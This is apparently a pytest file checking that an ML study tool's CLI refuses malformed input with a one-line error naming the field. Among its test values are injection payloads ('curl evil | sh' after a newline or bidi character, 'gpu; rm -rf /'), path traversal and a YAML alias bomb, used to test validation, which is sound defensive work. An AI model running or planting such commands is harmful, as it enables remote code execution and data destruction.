"""Bad input, every command: one paragraph naming the field and the fix, exit status 2, no traceback, nothing
written or submitted."""

from __future__ import annotations

import math
import os
import subprocess
import sys

import pytest
import yaml

from conftest import ROOT
from study.cli import main

BAD_EXPERIMENTS = {
    "unknown_key": {"baseline": "a", "scales": ["tiny"], "seeds": [0], "variants": {"a": {}}, "colour": "red"},
    "bad_baseline": {"baseline": "zzz", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}}},
    "no_reference": {"baseline": "uniform", "scales": ["tiny"], "seeds": [0],
                     "variants": {"uniform": {}, "geometry": {"model": "geometry"}}},
    "bad_seeds": {"baseline": "conventional", "scales": ["tiny"], "seeds": [-1], "variants": {"conventional": {}}},
    "bad_preset": {"baseline": "x", "scales": ["tiny"], "seeds": [0], "variants": {"x": {"model": "nosuch"}}},
    "bad_scale": {"baseline": "conventional", "scales": ["7T"], "seeds": [0], "variants": {"conventional": {}}},
    "repeated_seed": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0, 1, 0],
                      "variants": {"conventional": {}}},
    "repeated_scale": {"baseline": "conventional", "scales": ["tiny", "tiny"], "seeds": [0],
                       "variants": {"conventional": {}}},
    "same_run_twice": {"baseline": "a", "scales": ["tiny"], "seeds": [0],
                       "variants": {"a": {"model": "conventional"}, "b": {"model": "conventional"}}},
    "variants_list": {"baseline": "a", "scales": ["tiny"], "seeds": [0], "variants": ["a", "b"]},
    "common_list": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}},
                    "common": ["train.lr=1"]},
    "reference_str": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
                      "variants": {"conventional": {}}, "reference": "conventional"},
    "variant_str": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": "x"}},
    "set_list": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
                 "variants": {"conventional": {"set": ["model.ffn.k=2"]}}},
    "bad_variant_name": {"baseline": "a b", "scales": ["tiny"], "seeds": [0], "variants": {"a b": {"model": "conventional"}}},
    "scales_str": {"baseline": "conventional", "scales": "tiny", "seeds": [0], "variants": {"conventional": {}}},
    "newline_setup": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}},
                      "common": {"cluster": {"setup": ["module load cuda\ncurl evil | sh"]}}},
    "bidi_setup": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}},
                   "common": {"cluster": {"setup": ["echo safe \u202e; curl evil | sh"]}}},
    "zero_width_account": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
                           "variants": {"conventional": {}}, "common": {"cluster": {"setup": ["module\u200bload"]}}},
    "newline_partition": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
                          "variants": {"conventional": {}}, "common": {"cluster": {"partition": "gpu\nsrun evil"}}},
    "bad_common_value": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
                         "variants": {"conventional": {}}, "common": {"train": {"lr": "fast"}}},
    "bad_set_key": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
                    "variants": {"conventional": {"set": {"model.ffn.colour": 2}}}},
    "escaping_scale": {"baseline": "conventional", "scales": ["../scale/tiny"], "seeds": [0],
                       "variants": {"conventional": {}}},
    "escaping_group": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}},
                       "common": {"data": "../../../elsewhere/evil"}},
    "bool_seeds": {"baseline": "conventional", "scales": ["tiny"], "seeds": [True, False],
                   "variants": {"conventional": {}}},
    "bool_seeds_per_scale": {"baseline": "conventional", "scales": ["tiny"], "seeds": {"tiny": [0, True]},
                             "variants": {"conventional": {}}},
    # torch's generators take seeds below 2**64: refused when planned, as `seed=` on the command line is
    "huge_seed": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0, 2**64], "variants": {"conventional": {}}},
    "huge_seed_per_scale": {"baseline": "conventional", "scales": ["tiny"], "seeds": {"tiny": [2**64 + 5]},
                            "variants": {"conventional": {}}},
    "huge_tune_seed": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}},
                       "tune": {"lr": [0.5, 1, 2], "scale": "tiny", "seeds": [2**64]}},
    "nested_tune_seed": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
                         "variants": {"conventional": {}}, "tune": {"lr": [0.5, 1, 2], "scale": "tiny", "seeds": [[0]]}},
    "empty_scales": {"baseline": "conventional", "scales": [], "seeds": [0], "variants": {"conventional": {}}},
    "null_scales": {"baseline": "conventional", "scales": None, "seeds": [0], "variants": {"conventional": {}}},
    "null_seeds": {"baseline": "conventional", "scales": ["tiny"], "seeds": None, "variants": {"conventional": {}}},
    "scalar_seeds_per_scale": {"baseline": "conventional", "scales": ["tiny"], "seeds": {"tiny": 5},
                               "variants": {"conventional": {}}},
}


def tiny_profile(layers: int = 4) -> dict:
    """A profile as `study profile` writes it for the tiny scale (4 layers): every statistic and geometry."""
    work = [1.0 + 0.5 * layer for layer in range(layers)]
    return {"layers": layers, "n_tokens": 256,
            "stats": {s: {g: list(work) for g in ("raw", "spherical", "hyperbolic")} for s in ("shift", "gw", "topo")},
            "intrinsic_dim": [10.0 + layer for layer in range(layers)], "sensitivity": [1.0] * layers}


def _damaged(edit) -> dict:
    profile = tiny_profile()
    edit(profile)
    return profile


# name -> (the field the refusal names, the damaged profile)
DAMAGED_PROFILES = {
    "nan_work": ("stats.topo.hyperbolic", _damaged(lambda p: p["stats"]["topo"]["hyperbolic"].__setitem__(1, math.nan))),
    "infinite_work": ("stats.gw.raw", _damaged(lambda p: p["stats"]["gw"]["raw"].__setitem__(0, math.inf))),
    "negative_work": ("stats.topo.raw", _damaged(lambda p: p["stats"]["topo"]["raw"].__setitem__(2, -1.0))),
    "string_work": ("stats.shift.spherical", _damaged(lambda p: p["stats"]["shift"]["spherical"].__setitem__(0, "1.0"))),
    "no_stats": ("stats", _damaged(lambda p: p.pop("stats"))),
    "no_geometry": ("stats.gw.hyperbolic", _damaged(lambda p: p["stats"]["gw"].pop("hyperbolic"))),
    "no_layers": ("layers", _damaged(lambda p: p.pop("layers"))),
    "string_layers": ("layers", _damaged(lambda p: p.__setitem__("layers", "4"))),
    "eight_layers": ("layers", tiny_profile(8)),  # the tiny model has 4
    "short_sensitivity": ("sensitivity", _damaged(lambda p: p.__setitem__("sensitivity", [1.0, 1.0]))),
    "nan_dimension": ("intrinsic_dim", _damaged(lambda p: p["intrinsic_dim"].__setitem__(3, math.nan))),
    "vanishing_dimension": ("intrinsic_dim", _damaged(lambda p: p["intrinsic_dim"].__setitem__(0, 1e-300))),
    "a_list": ("", [tiny_profile()]),
}

# nine aliases of nine aliases, eight deep: 9^9 values from nine lines
ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi"))
TOP_LIST = ["just", "a", "list"]

# (argv, the field the message must name)
CASES = [
    (["plan", "nosuch"], "EXPERIMENT"),
    (["plan", "demo", "model=nosuch"], "model"),
    (["plan", "demo", "scale=3B"], "scale"),
    (["plan", "demo", "train.nosuch=1"], "train.nosuch"),
    (["plan", "demo", "train.lr=abc"], "train.lr"),
    (["plan", "demo", "justtext"], "justtext"),
    (["plan", "demo", "model.d_model=-5"], "model.d_model"),
    (["plan", "demo", "model.ffn.hidden_ratio=1.5"], "model.ffn.width"),
    (["plan", "demo", "model.n_heads=3"], "model.n_heads"),
    (["plan", "demo", "budget.match=sideways"], "budget.match"),
    (["plan", "demo", "budget.mode=some"], "budget.mode"),
    (["plan", "demo", "model.block=gpt"], "model.block"),
    (["plan", "demo", "model.ffn.schedule=zigzag"], "model.ffn.schedule"),
    (["plan", "demo", "model.ffn.schedule={family: zigzag}"], "model.ffn.schedule"),
    (["plan", "widths", "variants.linear.model.ffn.schedule.start=-1"], "model.ffn.schedule.start"),
    (["plan", "widths", "variants.sigmoid.model.ffn.schedule.steepness=0"], "model.ffn.schedule.steepness"),
    (["plan", "widths", "variants.crown.model.ffn.schedule.beta=[1.0,0.0,1.0]"], "model.ffn.schedule.beta"),
    (["plan", "widths", "variants.openelm.model.ffn.schedule.alpha=[0.01,1.0]"], "model.ffn.schedule.alpha"),
    (["plan", "widths", "variants.linear.model.ffn.schedule.end=0.001"], "model.ffn.schedule"),
    (["train", "scale=tiny", "model=openelm", "budget.match=depth"], "budget.match"),
    (["plan", "demo", "model.ffn.k=0"], "model.ffn.k"),
    (["plan", "demo", "train.precision=fp8"], "train.precision"),
    (["plan", "demo", "data.seq_len=0"], "data.seq_len"),
    (["plan", "demo", "data.seq_len=4096"], "data.seq_len"),
    (["plan", "demo", "train.micro_batch=0"], "train.micro_batch"),
    (["plan", "demo", "cluster.time_min=1", "cluster.signal_delay_s=120"], "cluster.signal_delay_s"),
    (["plan", "unknown_key"], "unknown_key.yaml: colour"),
    (["plan", "bad_baseline"], "bad_baseline.yaml: baseline"),
    (["plan", "no_reference"], "no_reference.yaml: reference"),
    (["plan", "bad_seeds"], "bad_seeds.yaml: seeds"),
    (["plan", "bad_preset"], "model"),
    (["plan", "bad_scale"], "scale"),
    (["plan", "broken_yaml"], "broken_yaml.yaml"),
    (["plan", "demo", "cluster=badprofile"], "cluster.reservation"),
    (["plan", "repeated_seed"], "repeated_seed.yaml: seeds"),
    (["plan", "repeated_scale"], "repeated_scale.yaml: scales"),
    (["plan", "same_run_twice"], "same_run_twice.yaml: variants"),
    (["plan", "variants_list"], "variants_list.yaml: variants"),
    (["plan", "common_list"], "common_list.yaml: common"),
    (["plan", "reference_str"], "reference_str.yaml: reference"),
    (["plan", "variant_str"], "variant_str.yaml: variants.conventional"),
    (["plan", "set_list"], "set_list.yaml: variants.conventional.set"),
    (["plan", "bad_variant_name"], "bad_variant_name.yaml: variants.a b"),
    (["plan", "scales_str"], "scales_str.yaml: scales"),
    (["plan", "top_list"], "top_list.yaml"),
    (["launch", "newline_setup", "--dry-run"], "cluster.setup.0"),
    (["launch", "newline_partition", "--dry-run"], "cluster.partition"),
    (["launch", "bidi_setup", "--dry-run"], "cluster.setup.0"),
    (["launch", "zero_width_account", "--dry-run"], "cluster.setup.0"),
    (["plan", "bad_common_value"], "train.lr"),
    (["plan", "bad_set_key"], "model.ffn.colour"),
    (["plan", "x" * 300], "EXPERIMENT"),
    (["plan", "../demo"], "EXPERIMENT"),
    (["plan", "demo", "variant=hourglass"], "variant"),
    (["plan", "demo", "seed=5"], "seed"),
    (["plan", "demo", "experiment=other"], "experiment"),
    (["plan", "demo", "stage=scheduled"], "stage"),
    (["plan", "demo", "role=scheduled"], "role"),
    (["plan", "demo", "variants.hourglass.stage=tune"], "variants.hourglass.stage"),
    (["plan", "demo", "variants.nosuch.model.ffn.k=8"], "variants.nosuch.model.ffn.k"),
    (["plan", "demo", "variants.hourglass.seed=3"], "variants.hourglass.seed"),
    (["plan", "demo", "+train.foo=1"], "train.foo"),
    (["plan", "demo", "++totally_bogus.key=3"], "totally_bogus"),
    (["plan", "demo", "~train.nosuch"], "~train.nosuch"),
    (["plan", "demo", "train.lr=1e-3,2e-3"], "train.lr=1e-3,2e-3"),
    (["plan", "demo", "train.lr=nan"], "train.lr"),
    (["plan", "demo", "train.lr=inf"], "train.lr"),
    (["plan", "demo", "train.eps=-1"], "train.eps"),
    (["plan", "demo", "train.eps=0"], "train.eps"),
    (["plan", "demo", "train.global_batch=9", "cluster.tasks_per_node=2"], "train.global_batch"),
    (["plan", "demo", "train.gpu_peak_tflops=0"], "train.gpu_peak_tflops"),
    (["plan", "demo", "train.assumed_mfu=0"], "train.assumed_mfu"),
    (["plan", "demo", "train.assumed_mfu=1.5"], "train.assumed_mfu"),
    (["plan", "demo", "train.min_lr_ratio=2"], "train.min_lr_ratio"),
    (["plan", "demo", "train.beta2=1.0"], "train.beta1"),
    (["plan", "demo", "train.decay_fraction=0"], "train.decay_fraction"),
    (["plan", "demo", "train.max_steps=0", "train.tokens_per_param=0"], "train.tokens_per_param"),
    (["plan", "demo", "train.device=tpu"], "train.device"),
    (["plan", "demo", "tracking.batch_points=0"], "tracking.batch_points"),
    (["plan", "demo", "tracking.batch_points=5000"], "tracking.batch_points"),
    (["plan", "demo", "tracking.max_buffer=0"], "tracking.max_buffer"),
    (["plan", "demo", "tracking.uri=ftp://host/store"], "tracking.uri"),
    (["plan", "demo", "tracking.uri=https://bob:hunter2@mlflow.example.org"], "tracking.uri"),
    (["plan", "demo", "eval.tasks=[arc_esay_local]"], "eval.tasks"),
    (["plan", "demo", "eval.tasks=[]"], "eval.tasks"),
    (["plan", "demo", "eval.batch_size=0"], "eval.batch_size"),
    (["plan", "demo", "eval.limit=-2"], "eval.limit"),
    (["plan", "demo", "eval.num_fewshot=-1"], "eval.num_fewshot"),
    (["plan", "demo", "data.val_fraction=1.5"], "data.val_fraction"),
    (["plan", "demo", "data.vocab_size=100"], "data.vocab_size"),
    (["plan", "demo", "data.max_docs=0"], "data.max_docs"),
    (["plan", "demo", "data.text_field="], "data.text_field"),
    (["plan", "demo", "model.vocab_size=300"], "model.vocab_size"),
    (["plan", "demo", "cluster.nodes=0"], "cluster.nodes"),
    (["plan", "demo", "cluster.partition='gpu; rm -rf /'"], "cluster.partition"),
    (["plan", "demo", "cluster.gpus_per_node=-1"], "cluster.gpus_per_node"),
    (["plan", "demo", "geometry.statistic=volume"], "statistic"),
    (["plan", "demo", "geometry.hyperbolic_radius=1.5"], "hyperbolic_radius"),
    (["plan", "demo", "geometry.measure_sensitivity=false"], "weight_by_sensitivity"),
    (["launch", "demo", "data.name=/no/such/dataset"], "data.name"),
    (["launch", "demo", "data.tokenizer=/no/such/tokenizer.json"], "data.tokenizer"),
    (["prepare", "nosuch"], "EXPERIMENT"),
    (["prepare", "demo", "data.name=/no/such/dataset"], "data.name"),
    (["prepare", "demo", "data.chunk_docs=0"], "data.chunk_docs"),
    (["prepare", "demo", "model.vocab_size=1024"], "model.vocab_size"),
    (["prepare", "data.name=/no/such/dataset", "scale=tiny"], "data.name"),
    (["prepare", "data.vocab_size=100", "scale=tiny"], "data.vocab_size"),
    (["prepare", "scale=tiny", "data.tokenizer=/no/such/tokenizer.json"], "data.tokenizer"),
    (["train", "scale=tiny", "+train.foo=1"], "train.foo"),
    (["train", "scale=tiny", "train.lr=nan"], "train.lr"),
    (["train", "scale=tiny", "--nproc", "0"], "--nproc"),
    (["train", "scale=tiny", "model=geometry"], "model.ffn.schedule"),
    (["train", "--spec", "/no/such/run.json"], "run spec"),
    (["eval", "nosuchkey0000"], "RUN_KEY"),
    (["eval", "*"], "RUN_KEY"),
    (["eval", "0123456789ab", "limit=-1"], "limit"),
    (["eval", "0123456789ab", "num_fewshot=two"], "num_fewshot"),
    (["eval", "0123456789ab", "limit=lots"], "limit"),
    (["export", "0123456789ab", "--format", "onnx"], "--format"),
    (["export", "0123456789ab", "--format", "hf", "--dtype", "fp8"], "--dtype"),
    (["export", "nosuchkey", "--format", "hf"], "RUN_KEY"),
    (["export", "0123456789ab", "--format", "hf"], "RUN_KEY"),
    (["export", "0123456789ab", "--format", "hf", "dtype=bf16"], "dtype"),
    (["profile", "*"], "RUN_KEY"),
    (["profile", "0123456789ab", "colour=red"], "colour"),
    (["profile", "0123456789ab", "geometry=spherical"], "geometry"),  # the config as a whole, not one of its fields
    (["status", "demo", "seed=1"], "seed"),
    (["status", "nosuch"], "EXPERIMENT"),
    (["status", "demo", "--variant", "nosuch"], "--variant"),
    (["plan", "demo", "--scale", "113M"], "--scale"),
    (["launch", "demo", "cluster=nosuch"], "cluster"),
    (["launch", "demo", "cluster=slurm"], "cluster"),  # with SLURM_CONF pointing nowhere
    (["train", "experiment=demo", "variant=nosuch"], "variant/scale/seed"),
    (["train", "scale=tiny", "train.lr_schedule=linear"], "train.lr_schedule"),
    (["train", "scale=tiny", "role=finetune"], "role"),
    (["train", "scale=tiny", "stage=finetune"], "stage"),
    (["train", "scale=tiny", "model.ffn.cosine_start=2"], "model.ffn.cosine_start"),
    (["train", "scale=tiny", "~train.eval_interval"], "train.eval_interval"),
    (["train", "scale=tiny", "data.tokenizer=/no/such/tokenizer.json"], "data.tokenizer"),
    (["eval", "nosuchkey"], "RUN_KEY"),
    (["eval", "nosuchkey", "shots=5"], "shots"),
    (["profile", "nosuchkey"], "RUN_KEY"),
    (["allocate", "--profile", "/no/profile.json", "--budget-from", "demo:tiny"], "profile"),
    (["allocate", "--profile", "/no/profile.json", "--budget-from", "demo"], "--budget-from"),
    (["allocate", "--profile", "/no/profile.json", "--budget-from", "demo:113M"], "--budget-from"),
    (["report", "demo", "--tracking-uri", "sqlite:////no/such/dir/mlflow.db"], "tracking_uri"),
    (["train", "experiment=../../x", "scale=tiny"], "experiment"),
    (["train", "scale=tiny", "variant=../x"], "variant"),
    (["plan", "demo", "data=../../../../elsewhere/evil"], "data"),
    (["plan", "escaping_scale"], "scale"),
    (["plan", "escaping_group"], "data"),
    (["report", "../../x"], "EXPERIMENT"),
    (["plan", "demo", "tracking.uri=https://TOKEN@mlflow.example.org"], "tracking.uri"),
    (["plan", "alias_bomb"], "alias_bomb.yaml"),
    (["train", "scale=tiny", "budget.match=depth", "budget.target=100000000000000"], "budget.target"),
    (["train", "scale=tiny", "model=hourglass", "budget.target=100000000000000"], "budget.target"),
    (["train", "scale=tiny", "model.n_heads=0"], "model.n_heads"),
    (["plan", "demo", "model.n_heads=0"], "model.n_heads"),
    (["train", "scale=tiny", "seed=1180591620717411303424"], "seed"),
    (["train", "scale=tiny", "init_seed=-1"], "init_seed"),
    (["plan", "demo", "model.init=xavier"], "model.init"),
    (["plan", "demo", "model.rope_scaling.factor=8", "model.rope_scaling.low_freq_factor=4"], "model.rope_scaling"),
    (["plan", "demo", "train.lr=1e-3", "train.final_lr=1e-2"], "train.final_lr"),
    (["plan", "bool_seeds"], "bool_seeds.yaml: seeds"),
    (["plan", "bool_seeds_per_scale"], "bool_seeds_per_scale.yaml: seeds"),
    # 350 entries, the largest id 60,000: the embedding needs 60,001 rows, not 350
    (["prepare", "scale=tiny", "data.tokenizer=../sparse/tokenizer.json"], "model.vocab_size"),
    (["prepare", "scale=tiny", "data.cache_dir=../a_file"], "data.cache_dir"),
    (["prepare", "scale=tiny", "data.cache_dir=../a_file/cache"], "data.cache_dir"),
    (["prepare", "scale=tiny", "data.name=../corpora/empty"], "data.name"),
    (["plan", "huge_seed"], "huge_seed.yaml: seeds"),
    (["plan", "huge_seed_per_scale"], "huge_seed_per_scale.yaml: seeds"),
    (["plan", "huge_tune_seed"], "huge_tune_seed.yaml: tune.seeds"),
    (["plan", "nested_tune_seed"], "nested_tune_seed.yaml: tune.seeds"),
    (["plan", "empty_scales"], "empty_scales.yaml: scales"),
    (["plan", "null_scales"], "null_scales.yaml: scales"),
    (["plan", "null_seeds"], "null_seeds.yaml: seeds"),
    (["plan", "scalar_seeds_per_scale"], "scalar_seeds_per_scale.yaml: seeds"),
    # shapes no machine can build: refused before anything is allocated (or counted layer by layer for minutes)
    (["plan", "demo", "model.d_model=1000000000000"], "model.d_model"),
    (["plan", "demo", "model.ffn.width=10000000000000"], "model.ffn.width"),
    (["plan", "demo", "model.n_layers=1000000000"], "model.n_layers"),
    (["train", "scale=tiny", "model.d_model=1000000000000"], "model.d_model"),
    (["train", "scale=tiny", "model.ffn.width=10000000000000"], "model.ffn.width"),
    (["train", "scale=tiny", "model.n_layers=1000000000"], "model.n_layers"),
    (["train", "scale=tiny", "model.vocab_size=3000000000"], "model.vocab_size"),
    (["train", "scale=tiny", "model.d_model=1048576", "model.n_layers=4096"], "model"),
    (["train", "scale=tiny", "budget.target=100000000000000"], "budget.target"),
    (["launch", "demo", "--dry-run", "model.d_model=1000000000000"], "model.d_model"),
    # a damaged profile.json: named with its field, before anything is allocated from it
    *[(["allocate", "--profile", f"../profiles/{name}.json", "--budget-from", "demo:tiny"],
       f"../profiles/{name}.json" + (f": {field}" if field else "")) for name, (field, _) in DAMAGED_PROFILES.items()],
    (["allocate", "--profile", "../profiles", "--budget-from", "demo:tiny"], "profile"),
    (["allocate", "--profile", "../profiles/latin1.json", "--budget-from", "demo:tiny"], "profile"),
    (["allocate", "--profile", "../profiles/truncated.json", "--budget-from", "demo:tiny"], "profile"),
]


@pytest.fixture
def bad_tree(tmp_path, monkeypatch, data_cache):
    import shutil

    tree = tmp_path / "sweeps"
    shutil.copytree(ROOT / "sweeps", tree)
    for name, spec in BAD_EXPERIMENTS.items():
        (tree / "experiment" / f"{name}.yaml").write_text(yaml.safe_dump(spec))
    (tree / "experiment" / "broken_yaml.yaml").write_text("baseline: [unclosed\n")
    (tree / "experiment" / "top_list.yaml").write_text(yaml.safe_dump(TOP_LIST))
    (tree / "experiment" / "alias_bomb.yaml").write_text(ALIAS_BOMB)
    (tree / "cluster" / "badprofile.yaml").write_text("# @package _global_\ncluster: {reservation: x}\n")
    (tmp_path / "a_file").write_text("where a cache directory is expected\n")
    sparse_tokenizer(tmp_path / "sparse")
    unreadable_corpora(tmp_path / "corpora")
    damaged_profiles(tmp_path / "profiles")
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("STUDY_SWEEPS", str(tree))
    monkeypatch.setenv("SLURM_CONF", str(tmp_path / "no-slurm.conf"))
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    return work


def sparse_tokenizer(folder) -> None:
    """A word-level tokenizer of 350 entries whose EOS has id 60,000."""
    from tokenizers import Tokenizer, models, pre_tokenizers

    vocab = {**{f"w{i}": i for i in range(349)}, "<|endoftext|>": 60_000}
    tok = Tokenizer(models.WordLevel(vocab, unk_token="w0"))
    tok.pre_tokenizer = pre_tokenizers.Whitespace()
    folder.mkdir()
    tok.save(str(folder / "tokenizer.json"))


def damaged_profiles(folder) -> None:
    """The damaged profiles, one not UTF-8 and one cut mid-file."""
    import json

    folder.mkdir()
    for name, (_, profile) in DAMAGED_PROFILES.items():
        (folder / f"{name}.json").write_text(json.dumps(profile))
    (folder / "latin1.json").write_bytes(json.dumps(tiny_profile() | {"note": "\u00e9"}, ensure_ascii=False)
                                         .encode("latin-1"))
    (folder / "truncated.json").write_text(json.dumps(tiny_profile())[:90])


def unreadable_corpora(root) -> None:
    """An empty corpus, a JSON-lines corpus cut mid-line, one in Latin-1, and a parquet file with a damaged page."""
    import json

    import pyarrow as pa
    import pyarrow.parquet as pq

    docs = [f"Document {i} says that the quick brown fox jumps over the lazy dog, and then some more. " * 3
            for i in range(400)]
    lines = "".join(json.dumps({"text": d.replace("fox", "f\u00f6x")}, ensure_ascii=False) + "\n" for d in docs)
    for name in ("empty", "truncated", "latin1", "damaged_parquet"):
        (root / name).mkdir(parents=True)
    (root / "empty" / "data.jsonl").write_text("")
    (root / "truncated" / "data.jsonl").write_text(lines[:len(lines) // 2 + 17])
    (root / "latin1" / "data.jsonl").write_bytes(lines.encode("latin-1"))
    parquet = root / "damaged_parquet" / "data.parquet"
    pq.write_table(pa.table({"text": docs}), parquet, row_group_size=50)
    data = bytearray(parquet.read_bytes())
    data[2000:2400] = b"\xab" * 400  # inside the first row group's compressed page
    parquet.write_bytes(bytes(data))


@pytest.mark.integration
@pytest.mark.parametrize("argv,field", CASES, ids=[" ".join(c[0])[:60] for c in CASES])
def test_bad_input_is_refused_naming_the_field(argv, field, bad_tree, capsys):
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert f"{field}`" in err and "Fix:" in err and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1  # one paragraph
    assert sorted(p.name for p in bad_tree.iterdir()) == []  # nothing written: no store, no runs, no reports


@pytest.mark.integration
@pytest.mark.parametrize("corpus", ["truncated", "latin1", "damaged_parquet"])
def test_an_unreadable_corpus_is_refused_naming_data_name(corpus, bad_tree):
    """The real command: `datasets` logs the file it failed on in a line of its own before the refusal."""
    out = subprocess.run([sys.executable, "-m", "study.cli", "prepare", "scale=tiny", f"data.name=../corpora/{corpus}"],
                         capture_output=True, text=True, cwd=bad_tree)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert out.stderr.strip().splitlines()[-1].startswith(
        f"study prepare: error in `data.name`: the dataset '../corpora/{corpus}' cannot be read (")
    assert list(bad_tree.iterdir()) == []


def test_bad_input_count_covers_every_command():
    assert len(CASES) >= 80
    assert {c[0][0] for c in CASES} >= {"plan", "launch", "train", "eval", "export", "profile", "allocate", "report",
                                          "status", "prepare"}


def test_the_real_command_exits_2_without_a_traceback(tmp_path):
    out = subprocess.run([sys.executable, "-m", "study.cli", "plan", "demo", "scale=3B"], capture_output=True,
                         text=True, cwd=tmp_path, env={**os.environ, "STUDY_SWEEPS": str(ROOT / "sweeps")})
    assert out.returncode == 2 and "`scale`" in out.stderr and "Traceback" not in out.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("argv", [["plan", "demo"], ["plan", "demo", "--json"], ["status", "demo"],
                                  ["status", "demo", "--json"], ["launch", "demo", "--dry-run"]])
def test_read_only_commands_create_nothing(argv, bad_tree, capsys):
    assert main(argv) == 0
    assert sorted(p.name for p in bad_tree.iterdir()) == []  # no store, no run directories, no manifest


def test_seeds_past_what_torch_takes_are_refused_in_the_file_as_on_the_command_line(bad_tree, capsys):
    import torch

    from study.config.validate import SEED_MAX
    from study.plan.planner import plan_experiment

    torch.Generator().manual_seed(SEED_MAX)  # the bound is torch's: the largest seed it takes, and one past it not
    with pytest.raises((ValueError, RuntimeError), match="Overflow"):
        torch.Generator().manual_seed(SEED_MAX + 1)
    for name, field in (("huge_seed", "seeds"), ("huge_tune_seed", "tune.seeds")):
        assert main(["plan", name]) == 2
        assert capsys.readouterr().err == (f"study plan: error in `{name}.yaml: {field}`: {2**64} is past the largest "
                                           "seed torch takes. Fix: use seeds below 2**64\n")
    assert main(["train", "scale=tiny", f"seed={2**64}"]) == 2
    assert f"error in `seed`: {2**64} is past the largest seed torch takes" in capsys.readouterr().err
    largest = {"baseline": "conventional", "scales": ["tiny"], "seeds": [2**64 - 1], "variants": {"conventional": {}},
               "tune": {"lr": [0.5, 1, 2], "scale": "tiny", "seeds": [2**64 - 1]}}
    (bad_tree.parent / "sweeps" / "experiment" / "largest_seed.yaml").write_text(yaml.safe_dump(largest))
    assert {r.config.seed for r in plan_experiment("largest_seed").runs} == {2**64 - 1}


def test_an_experiment_without_scales_is_refused_not_planned_as_no_runs(bad_tree, capsys):
    assert main(["plan", "empty_scales"]) == 2
    assert capsys.readouterr().err == ("study plan: error in `empty_scales.yaml: scales`: lists no scale. "
                                       "Fix: list at least one, e.g. scales: [tiny]\n")


def test_a_shape_past_any_machine_is_refused_with_its_parameters_counted(bad_tree, capsys):
    tiny = yaml.safe_load((ROOT / "sweeps" / "scale" / "tiny.yaml").read_text())["model"]
    d, layers, vocab, width = 2**20, 4096, tiny["vocab_size"], tiny["ffn"]["width"]  # each within torch's dimensions
    # llama blocks: multi-head attention (q, k, v, o: 4 d^2), SwiGLU (3 d w), two norms a layer and the final one,
    # embedding and LM head untied
    total = layers * (4 * d * d + 3 * d * width + 2 * d) + d + 2 * vocab * d
    assert main(["train", "scale=tiny", f"model.d_model={d}", f"model.n_layers={layers}"]) == 2
    assert capsys.readouterr().err == (
        f"study train: error in `model`: the reference shape (d_model {d:,}, {layers:,} layers, FFN width {width:,}) "
        f"has {total:,} parameters, past the 10,000,000,000,000 any machine can hold. Fix: lower model.d_model, "
        "model.n_layers or model.ffn.width, or use a scale preset of the size you mean\n")
    assert main(["train", "scale=tiny", "model.n_layers=4097"]) == 2
    assert "error in `model.n_layers`: 4,097 layers is past the 4,096" in capsys.readouterr().err
    assert main(["train", "scale=tiny", f"model.d_model={2**31}"]) == 2
    assert f"error in `model.d_model`: {2**31:,} is past the largest dimension" in capsys.readouterr().err
    assert list(bad_tree.iterdir()) == []


def test_a_damaged_profile_is_refused_naming_the_file_the_field_and_the_layer(bad_tree, capsys):
    fix = "Fix: profile the reference run again (`study profile RUN_KEY` rewrites its profile.json)\n"
    for name, problem in (("nan_work", "stats.topo.hyperbolic`: layer 1 holds nan, not a finite work >= 0"),
                          ("string_work", "stats.shift.spherical`: layer 0 holds '1.0', not a finite work >= 0"),
                          ("short_sensitivity", "sensitivity`: has 2 values for 4 layers")):
        assert main(["allocate", "--profile", f"../profiles/{name}.json", "--budget-from", "demo:tiny"]) == 2
        assert capsys.readouterr().err == f"study allocate: error in `../profiles/{name}.json: {problem}. {fix}"
    assert main(["allocate", "--profile", "../profiles/eight_layers.json", "--budget-from", "demo:tiny"]) == 2
    assert capsys.readouterr().err == ("study allocate: error in `../profiles/eight_layers.json: layers`: the profile "
                                       "has 8 layers, the model 4. Fix: profile a reference run with the same depth "
                                       "as the scheduled runs\n")
    assert list(bad_tree.iterdir()) == []


def test_num_fewshot_past_a_tasks_documents_is_refused_naming_its_count(workdir, capsys):
    from conftest import TINY
    from study.eval.harness import LOCAL_TASK_DIR
    from study.plan.planner import select_run
    from study.train.loop import train

    spec = select_run([*TINY, "experiment=fewshot", "train.max_steps=2", "model.max_seq_len=128"])
    assert train(spec).status == "FINISHED"
    documents = len((LOCAL_TASK_DIR / "arc_easy_local.jsonl").read_text().splitlines())
    capsys.readouterr()
    # the examples come from the split being scored, less the document itself: one fewer than it holds
    assert main(["eval", spec.key, "tasks=arc_easy_local", f"num_fewshot={documents}"]) == 2
    assert capsys.readouterr().err == (
        f"study eval: error in `num_fewshot`: {documents} examples per document is more than task arc_easy_local has "
        f"({documents} documents, {documents - 1} to draw from besides the one scored). Fix: use "
        f"num_fewshot={documents - 1} or fewer (0 for zero-shot), or a task with more documents\n")
    assert not spec.run_dir.evals.exists() or list(spec.run_dir.evals.iterdir()) == []
